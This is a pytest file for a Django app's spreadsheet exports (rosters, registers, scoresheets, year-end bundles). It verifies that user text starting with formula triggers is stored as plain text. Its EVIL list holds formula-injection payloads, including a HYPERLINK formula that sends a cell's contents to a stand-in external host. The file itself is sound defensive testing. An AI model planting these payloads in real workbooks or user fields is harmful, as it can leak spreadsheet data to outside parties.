"""No workbook we write ever holds a formula made from user text (roster, register,
scoresheets, dashboard workbook, year-end bundle): every text field below starts with a
character a spreadsheet reads as a formula, and no formula cell comes out."""

import io
import zipfile

import openpyxl
import pytest
from django.utils import translation

from assessments.documents import county_workbook, township_workbook
from deputies.documents import roster_template_workbook, roster_workbook
from deputies.exports import roster_export_data
from deputies.models import Deputy, DeputyGroup
from proposals.jobs import register_export
from proposals.models import HandlingUnit, Proposal, ProposalCategory
from proposals.selectors import proposal_list
from renda.core import xlsx
from renda.core.models import Township
from renda.dashboard import jobs
from tests.dashboard.conftest import TODAY, YEAR  # noqa: F401 (year_data comes from there)

pytestmark = pytest.mark.django_db

EVIL = [
    '=HYPERLINK("http://x.example/?a="&A1,"点我")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "#N/A",
]


def evil(i):
    return EVIL[i % len(EVIL)]


def formula_cells(content):
    """[sheet!cell] of every formula cell of a workbook, and the set of its text values."""
    wb = openpyxl.load_workbook(io.BytesIO(content))
    found, texts = [], set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or c.data_type == "e":
                    found.append(f"{ws.title}!{c.coordinate}={c.value!r}")
                if isinstance(c.value, str):
                    texts.add(c.value)
    return found, texts


def test_helper_writes_text_as_text_and_marks_it():
    wb = xlsx.new_workbook(write_only=True)
    ws = wb.create_sheet("x")
    ws.append([xlsx.cell(ws, v) for v in EVIL + ["普通", 3, "a\x01b"]])
    ws2 = openpyxl.load_workbook(io.BytesIO(xlsx.save(wb))).active
    cells = list(ws2[1])
    assert [c.value for c in cells[: len(EVIL)]] == EVIL
    assert all(c.data_type == "s" for c in cells[: len(EVIL) + 1])
    assert all(c.quotePrefix for c in cells[: len(EVIL) - 1])  # every formula trigger quoted
    assert cells[-2].value == 3 and cells[-1].value == "ab"


def test_save_refuses_a_formula_cell():
    wb = xlsx.new_workbook()
    wb.active["A1"] = "=1+2"  # bypassing the helper
    with pytest.raises(ValueError):
        xlsx.save(wb)


def _poison(year_data):
    """Every text field that reaches a workbook gets formula-like text."""
    t = year_data.township
    Township.objects.filter(pk=t.pk).update(name=evil(0))
    t.refresh_from_db()
    for i, d in enumerate(Deputy.objects.filter(township=t)):
        Deputy.objects.filter(pk=d.pk).update(
            name=evil(i + 1)[:30],
            work_unit=evil(i + 2),
            constituency=evil(i + 3),
            phone=evil(i + 4)[:30],
            notes=evil(i + 5),
        )
    DeputyGroup.objects.filter(township=t).update(name=evil(3))
    HandlingUnit.objects.filter(township=t).update(name=evil(4))
    used = Proposal.objects.filter(township=t).values("category_id")
    ProposalCategory.objects.filter(pk=ProposalCategory.objects.filter(pk__in=used).first().pk).update(
        name=evil(1)
    )
    for i, p in enumerate(Proposal.objects.filter(township=t)):
        Proposal.objects.filter(pk=p.pk).update(
            title=evil(i), content=evil(i + 1), responsible_leader=evil(i + 2)[:30]
        )
    return t


def test_no_formula_in_any_workbook(year_data, reviewer, secretary):
    t = _poison(year_data)
    workbooks = {}
    with translation.override("zh-hans"):
        data = roster_export_data(user=reviewer, township=None)
        workbooks["county roster"] = roster_workbook(data)
        workbooks["roster"] = roster_workbook(roster_export_data(user=secretary, township=t))
        workbooks["template"] = roster_template_workbook(groups=[evil(0), evil(2)], sample=EVIL * 2)
        _n, workbooks["register"] = register_export(
            qs=proposal_list(user=reviewer, filters={"year": YEAR}), title=evil(0)
        )
        sheet = {
            "township": evil(0),
            "year": YEAR,
            "state": evil(1),
            "computed_at": evil(2),
            "items": [{"category": evil(i), "name": evil(i + 1)} for i in range(4)],
            "thresholds": [90, 75, 60],
            "excellent_max_percent": None,
            "rows": [
                {
                    "name": evil(i),
                    "group": evil(i + 1),
                    "cells": [1.0, 2.0, None, 3.0],
                    "adjustment": 0.0,
                    "total": 6.0,
                    "rank": i + 1,
                    "grade": evil(i + 2),
                    "grade_code": "competent",
                    "dormant": False,
                    "note": evil(i + 3),
                }
                for i in range(len(EVIL))
            ],
            "average": 6.0,
        }
        workbooks["scoresheet"] = township_workbook(sheet)
        workbooks["county scoresheet"] = county_workbook(
            county_name=evil(3), year=YEAR, sheets=[sheet, sheet]
        )
        workbooks["dashboard"] = jobs.dashboard_workbook_build(townships=[t], year=YEAR, today=TODAY)
        bundle = jobs.year_bundle_files(townships=[t], year=YEAR, requested_by=reviewer)
    in_bundle = [(path, content) for path, content in bundle if path.endswith(".xlsx")]
    assert len(in_bundle) >= 2  # register and roster at least
    workbooks.update({f"bundle {path}": content for path, content in in_bundle})
    seen = set()
    for name, content in workbooks.items():
        found, texts = formula_cells(content)
        assert not found, (name, found[:5])
        seen |= texts
    # the user's text is kept as it was typed
    assert {EVIL[0], "=1+2", "+1+2", "@SUM(1,2)"} <= seen


def test_bundle_zip_holds_no_formula(year_data, reviewer):
    t = _poison(year_data)
    with translation.override("zh-hans"):
        files = jobs.year_bundle_files(townships=[t], year=YEAR, requested_by=reviewer)
    content = jobs.documents.zip_bytes(files)
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        names = [n for n in zf.namelist() if n.endswith(".xlsx")]
        assert names
        for n in names:
            assert formula_cells(zf.read(n))[0] == [], n
